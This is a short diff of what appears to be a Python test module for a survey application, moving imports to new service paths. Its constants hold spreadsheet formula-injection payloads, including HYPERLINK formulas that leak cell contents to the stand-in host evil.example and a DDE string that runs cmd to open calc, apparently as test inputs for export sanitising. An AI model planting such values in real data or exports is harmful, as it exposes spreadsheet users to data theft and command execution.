@@ -12,8 +12,8 @@ from sqlalchemy import select
 
 from survey_app.extensions import db
 from survey_app.models import AdminUnit, UnitLevel
-from survey_app.services.responses import submit_response
-from survey_app.services.users import change_password, create_or_reset_user
+from survey_app.services.staff.users import change_password, create_or_reset_user
+from survey_app.services.survey.responses import submit_response
 
 CAMPAIGN = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem kết quả")'
 REASONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
